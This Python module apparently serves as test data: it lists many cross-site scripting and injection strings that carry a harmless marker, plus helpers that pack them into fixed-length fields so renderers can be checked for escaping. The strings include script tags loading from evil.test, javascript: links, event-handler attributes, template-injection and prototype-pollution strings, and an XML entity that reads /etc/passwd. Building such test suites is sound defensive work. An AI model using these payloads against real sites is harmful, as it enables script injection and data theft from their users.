"""
Texts that would be more than letters wherever a page forgot what they are, each with MARK in it, and packs of them as
long as a field holds.

Run, they set `struck` or ask for a host under evil.test; drawn as markup, they leave an element with MARK in it.
"""

from collections.abc import Iterator

MARK = "xq7"
_RUN = f"struck='{MARK}'"

_TAGS = (
    f"<script>{_RUN}</script>",
    f"<ScRiPt>{_RUN}</sCrIpT>",
    f"<script src=//evil.test/{MARK}.js></script>",
    f"<script src=data:text/javascript,{_RUN}></script>",
    f"<script type=module>{_RUN}</script>",
    f"<scr<script>ipt>{_RUN}</scr</script>ipt>",
    f"</script><script>{_RUN}</script>",
    f"<script\x0c>{_RUN}</script\x0c>",
    f"<img src={MARK} onerror={_RUN}>",
    f"<img/src={MARK}/onerror={_RUN}>",
    f"<img src='{MARK}' onerror=\"{_RUN}\">",
    f"<img src=https://evil.test/{MARK}.png>",
    f"<img srcset='https://evil.test/{MARK} 1x'>",
    f"<image href={MARK} onerror={_RUN}>",
    f"<iframe src=javascript:{_RUN}></iframe>",
    f'<iframe srcdoc="<script>parent.{_RUN}</script>"></iframe>',
    f"<iframe src=https://evil.test/{MARK}></iframe>",
    f"<frameset onload={_RUN}><frame src={MARK}></frameset>",
    f"<object data=javascript:{_RUN}>",
    f"<embed src=javascript:{_RUN}>",
    f"<applet code={MARK}.class>",
    f"<body onload={_RUN}>",
    f"<input autofocus onfocus={_RUN}>",
    f"<select autofocus onfocus={_RUN}></select>",
    f"<textarea autofocus onfocus={_RUN}></textarea>",
    f"<button autofocus onfocus={_RUN}>{MARK}</button>",
    f"<details open ontoggle={_RUN}>{MARK}</details>",
    f"<video src={MARK} onerror={_RUN}></video>",
    f"<video><source onerror={_RUN}></video>",
    f"<audio src={MARK} onerror={_RUN}></audio>",
    f"<marquee onstart={_RUN}>{MARK}</marquee>",
    f"<form action=javascript:{_RUN}><input type=submit></form>",
    f"<form id={MARK}><button formaction=javascript:{_RUN}>{MARK}",
    f"<isindex type=image src={MARK} onerror={_RUN}>",
    f"<base href=https://evil.test/{MARK}/>",
    f"<link rel=stylesheet href=https://evil.test/{MARK}.css>",
    f"<link rel=import href=data:text/html,{MARK}>",
    f"<meta http-equiv=refresh content='0;url=https://evil.test/{MARK}'>",
    f"<meta http-equiv=Set-Cookie content={MARK}=1>",
    f"<a href=javascript:{_RUN}>{MARK}</a>",
    f"<a href='java\tscript:{_RUN}'>{MARK}</a>",
    f"<a href=\x01javascript:{_RUN}>{MARK}</a>",
    f"<a href=data:text/html,{MARK}>{MARK}</a>",
    f"<a href=https://evil.test/{MARK} target=_blank>{MARK}</a>",
    f"<area href=javascript:{_RUN}>",
    f"<table background=javascript:{_RUN}><td>{MARK}",
    f"<template><script>{_RUN}</script></template>",
    f"<noscript><p title='</noscript><img src={MARK} onerror={_RUN}>'>",
    f"<plaintext>{MARK}",
    f"<xmp>{MARK}</xmp><title>{MARK}</title>",
    f"<portal src=https://evil.test/{MARK}>",
    f"<dialog open>{MARK}</dialog>",
    f"<x-{MARK} onclick={_RUN} tabindex=1 autofocus onfocus={_RUN}>",
    f"<div popover id={MARK} onbeforetoggle={_RUN}>{MARK}</div>",
    f"<b>{MARK}</b> <u>{MARK}</u> <font color=red>{MARK}</font>",
    f"<h1>{MARK}</h1><hr><br>{MARK}",
)
_FOREIGN = (
    f"<svg onload={_RUN}>",
    f"<svg/onload={_RUN}//",
    f"<svg><script>{_RUN}</script></svg>",
    f"<svg><script href=data:,{_RUN}></script></svg>",
    f"<svg><animate onbegin={_RUN} attributeName=x dur=1s>",
    f"<svg><set attributeName=href to=javascript:{_RUN}>",
    f"<svg><a xlink:href=javascript:{_RUN}><text>{MARK}</text></a></svg>",
    f"<svg><use href=data:image/svg+xml,{MARK}#x></svg>",
    f"<svg><foreignObject><img src={MARK} onerror={_RUN}></foreignObject></svg>",
    f"<svg><style>*{{background:url(//evil.test/{MARK})}}</style></svg>",
    f"<svg><image href=https://evil.test/{MARK}.png></svg>",
    f"<math href=javascript:{_RUN}>{MARK}</math>",
    f"<math><mtext><style><img src={MARK} onerror={_RUN}></style></mtext></math>",
    f"<math><maction actiontype=statusline xlink:href=javascript:{_RUN}>{MARK}",
    f"<math><annotation-xml encoding=text/html><script>{_RUN}</script>",
    f"<form><math><mtext></form><form><mglyph><style></math><img src={MARK} onerror={_RUN}>",
)
_BREAKS_OUT = (
    f'"><script>{_RUN}</script>',
    f"'><img src={MARK} onerror={_RUN}>",
    f'" onmouseover="{_RUN}" {MARK}="',
    f"' autofocus onfocus='{_RUN}",
    f"` onerror=`{_RUN}",
    f"</textarea><script>{_RUN}</script>",
    f"</style><script>{_RUN}</script>",
    f"</title><img src={MARK} onerror={_RUN}>",
    f"--><script>{_RUN}</script>",
    f"]]><script>{_RUN}</script>",
    f"</li></ul><svg onload={_RUN}>",
    f"</code></pre><svg onload={_RUN}>",
    f"';{_RUN};//",
    f'";{_RUN};//',
    f"\\';{_RUN};//",
    f'{{"__proto__":{{"struck":"{MARK}"}}}}',
)
_MARKDOWN = (
    f"[{MARK}](javascript:{_RUN})",
    f"[{MARK}](JaVaScRiPt:{_RUN})",
    f"[{MARK}](java&#115;cript:{_RUN})",
    f"[{MARK}](data:text/html,{MARK})",
    f"[{MARK}](vbscript:msgbox)",
    f'[{MARK}](https://evil.test/{MARK} "{MARK}")',
    f"[{MARK}][{MARK}]",
    f"[{MARK}]: https://evil.test/{MARK}",
    f"![{MARK}](https://evil.test/{MARK}.png)",
    f"![{MARK}](data:image/svg+xml,<svg onload={_RUN}>)",
    f'![{MARK}](x "onerror={_RUN}")',
    f"<javascript:{_RUN}>",
    f"<https://evil.test/{MARK}>",
    f"https://evil.test/{MARK}",
    f"www.evil.test/{MARK}",
    f"{MARK}@evil.test",
    f"**{MARK}** __{MARK}__",
    f"*{MARK}* _{MARK}_",
    f"~~{MARK}~~ `{MARK}`",
    f"# {MARK}",
    f"> {MARK}",
    f"- {MARK}",
    f"1. {MARK}",
    f"- [ ] {MARK}",
    f"| {MARK} | {MARK} |",
    f"```js {MARK} ```",
    f"{MARK}[^1]",
    f"{MARK} -> {MARK} <- {MARK} -- {MARK} >= {MARK}",
)
_STREAMLIT = (
    f":material/{MARK}:",
    f":material/skull: {MARK}",
    f":red[{MARK}]",
    f":red-background[{MARK}]",
    f":rainbow[{MARK}]",
    f":blue-badge[{MARK}]",
    f":small[{MARK}]",
    f":streamlit: {MARK}",
    f":joy: {MARK}",
    f":{MARK}:",
    f":red[[{MARK}](https://evil.test/{MARK})]",
    f"$\\href{{javascript:{_RUN}}}{{{MARK}}}$",
    f"$$\\includegraphics{{https://evil.test/{MARK}}}$$",
    f"$\\htmlData{{x={MARK}}}{{y}}$",
    f"$x^2_{MARK}$",
    f"\\({MARK}\\) \\[{MARK}\\]",
)
_TEMPLATES = (
    f'{{{{constructor.constructor("{_RUN}")()}}}}',
    f"{{% raw %}}{MARK}{{% endraw %}}",
    f"${{{_RUN}}}",
    f"<%= {MARK} %>",
    f"#{{{MARK}}}",
    f"{{{MARK}}} {{0}} %({MARK})s %s",
    f"[[{MARK}]] @{{{MARK}}}",
    f"{{name!r:{MARK}}}",
)
_ENTITIES = (
    f"&lt;script&gt;{_RUN}&lt;/script&gt;",
    f"&#60;img src={MARK} onerror={_RUN}&#62;",
    f"&#x3c;svg onload={_RUN}&#x3e;",
    f"&lt;{MARK}&gt; &amp;amp; &quot; &nbsp;",
    f"\\u003cscript\\u003e{MARK}\\u003c/script\\u003e",
    f"\\x3cscript\\x3e{MARK}",
    f"%3Cscript%3E{MARK}%3C/script%3E",
    f"+ADw-script+AD4-{MARK}+ADw-/script+AD4-",
)
_STYLES = (
    f"<style>@import'//evil.test/{MARK}.css';</style>",
    f"<style>body{{display:none}}/*{MARK}*/</style>",
    f"<style>*{{background:url(https://evil.test/{MARK})}}</style>",
    f"<p style=position:fixed;inset:0>{MARK}</p>",
    f"<p style=background:url(https://evil.test/{MARK})>",
    f"<div style=animation-name:x onanimationend={_RUN}>{MARK}",
    f"<xss style='behavior:url({MARK}.htc)'>",
    f"x:expression({_RUN})",
)
_ODD_LETTERS = (
    f"<\x00script>{_RUN}</script>",
    f"<img src={MARK} one\x00rror={_RUN}>",
    f"\u202e>tpircs<{MARK}\u202c",
    f"\u2066{MARK}\u2069\u200f\u061c",
    f"<\u200bscript>{_RUN}</script>",
    f"\uff1cscript\uff1e{_RUN}\uff1c/script\uff1e",
    f"\u2039img src={MARK}\u203a",
    f"\ufe64svg onload={_RUN}\ufe65",
    f"\u02bcX\u02bc onfocus=\u02ba{MARK}\u02ba",
    f"<\u0455cript>{MARK}</\u0455cript>",
    f"<svg\u00a0onload={_RUN}>",
    f"<svg\u2028onload={_RUN}>",
    f"\u3008{MARK}\u3009 \u226e{MARK}\u226f",
    f"\ufeff<b>{MARK}",
    f"{MARK}\u0338\u0489\u20dd",
    f"\U000e003c{MARK}\U000e003e",
    f"\x1b]8;;https://evil.test/{MARK}\x07{MARK}\x1b]8;;\x07",
)
_COMMENTS = (
    f"<!--{MARK}-->",
    f"<!--><img src={MARK} onerror={_RUN}>-->",
    f"<!--[if IE]><script>{_RUN}</script><![endif]-->",
    f"<![CDATA[<script>{_RUN}</script>]]>",
    f"<?xml-stylesheet href=https://evil.test/{MARK}?>",
    f"<!DOCTYPE {MARK}>",
    f"<!ENTITY {MARK} SYSTEM 'file:///etc/passwd'>",
)
PAYLOADS: tuple[str, ...] = (
    *_TAGS, *_FOREIGN, *_BREAKS_OUT, *_MARKDOWN, *_STREAMLIT, *_TEMPLATES, *_ENTITIES, *_STYLES, *_ODD_LETTERS,
    *_COMMENTS,
)  # fmt: skip
LEAST = 136
"""How many of them there must be."""


def packs(longest: int, apart: str = " ") -> list[str]:
    """All of PAYLOADS that fit in *longest* characters, as few texts of at most that length as they fill in order."""
    found = [""]
    for payload in PAYLOADS:
        if len(payload) > longest:
            continue
        more = f"{found[-1]}{apart}{payload}" if found[-1] else payload
        if len(more) <= longest:
            found[-1] = more
        else:
            found.append(payload)
    return found


def too_long(longest: int) -> Iterator[str]:
    """Those no text of *longest* characters holds."""
    return (payload for payload in PAYLOADS if len(payload) > longest)
